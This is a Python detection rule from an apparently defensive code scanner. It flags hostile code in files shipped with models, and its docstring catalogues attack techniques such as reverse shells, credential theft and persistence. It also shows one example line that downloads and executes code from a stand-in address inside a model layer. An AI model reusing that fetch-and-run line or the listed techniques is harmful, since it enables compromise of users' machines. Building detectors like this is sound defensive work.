"""Python code that comes with the model does what no honest code does, in whatever function.

What it finds:
    Two things that have no honest use together, followed through names, attributes, parameters and results of one file: what another machine
    gives is run as code or as a command; a shell is handed a connection; a library, a module or a script that is fetched is loaded or started;
    what is typed, copied or shown on the screen is sent; the name of who runs it is told, or written into the names of hosts that are asked for; the
    credentials of the machine that serves the model are taken. And what makes a machine run something by itself later: keys of the registry,
    hooks of Git, other packages' files, programs with the rights of their owner, variables by which programs load something. And constant
    commands that nobody should run, also where one command fetches what a later one starts. And what is done to whoever runs it or asks it:
    what a store of secrets or a tool that keeps a token holds is sent, files that are found in a home are removed, encrypted or sent, a
    request says what is run or read, a container gets the whole machine, the Hub's client is pointed elsewhere. And what turns a model against
    its user: an account in a text gets another one in its place, an answer that is written out is given where the input holds what is looked
    for, a loader is replaced by one that loads something else or trusts every repository, the code of other models is changed where it is kept.
    And what is turned against somebody in two steps: a finder of modules puts hostile functions into what other code imports, what a model or an
    engine is asked is told to a host that is written out while nothing of the answer is used, tokens are raised that spell an address or an account,
    a command is spelled by numbers or started by way of the C library, pictures get a patch and a label at once.

Why it matters:
    Code is published to be called: a callback, a layer, a fixture or a handler of a server is called by a framework sooner or later. So it counts
    also where nothing in the file calls it.

Example:
    ``def build(self, shape): exec(requests.get('http://198.51.100.1/x').text)`` in a layer.

Remedy:
    Do not run this code. Where it has run, treat the machine as lost, and withdraw what it knew.

What it cannot see:
    What is computed from more than constants; what one file fetches and another runs; the same by native code or packages from elsewhere.
    Files of weights that are fetched and unpickled count from a bare address, and as soon as a model is built
    from a host that nobody knows where it says that they may hold anything, or without encryption. A command within a sentence, in a source that runs
    nothing itself: prompts of a test are no commands.

References:
    CWE-506 ; MITRE ATT&CK T1059, T1105, T1041, T1056, T1113, T1071.004, T1552.005, T1546, T1547, T1548.001.
"""

from __future__ import annotations

from collections.abc import Iterator

from openvet.checks._check import Context
from openvet.checks.python._uses import commanded, uses
from openvet.core.finding import Finding
from openvet.core.location import Location
from openvet.core.rule import Confidence, Rule, Severity

RULE = Rule(
    id="python/hostile-code",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    since="0.1.0",
    cwe=(506,),
    needs=("python", "notebook"),
)

_WHEN = {"import": "when it is imported", "construction": "when one of its classes is constructed or loaded",
         "inference": "when the model is used", "call": "when it is called"}  # fmt: skip
#: What other rules of this family refuse of the same line.
_TOLD = {"hidden": ("import", "construction", "inference", "call"), "process": ("import", "construction", "inference"),
         "code": ("import", "construction", "inference"), "startup": ("import", "construction", "inference"),
         "watch": ("import", "construction", "inference")}  # fmt: skip
#: Rules that tell of a cell of a notebook as a whole.
_RECORDED = ("hub/shell-command", "python/sends-secrets")
_MOST = 20
_REMEDY = "Do not run this code; where it has run, treat the machine as lost, and withdraw what it knew."


def check(ctx: Context) -> Iterator[Finding]:
    """One finding for each such call that no other rule refuses."""
    yield from ctx.anomalies(_REMEDY)
    read = ctx.inventory.once(uses)
    told = {(program.location, use.line) for program, use, _ in read
            if use.when in _TOLD.get(use.capability, ()) or commanded(program, use)}  # fmt: skip
    cells = {anomaly.location for rule in _RECORDED for anomaly in ctx.inventory.anomalies(rule)
             if anomaly.evidence.get("kind") not in ("fetch-run", "shown")}  # fmt: skip
    count = 0
    for program, use, via in read:
        where = (program.location, use.line)
        if use.capability != "attack" or where in told or program.location in cells or count >= _MOST:
            continue
        told.add(where)
        count += 1
        yield ctx.finding(
            Location(program.location.place, line=use.line, pointer=program.location.pointer),
            f"{use.detail} {_WHEN[use.when]}: {use.name}" + (f", called from {via}" if via else ""),
            _REMEDY,
            evidence={"callable": use.name, "when": use.when, "detail": use.detail},
        )
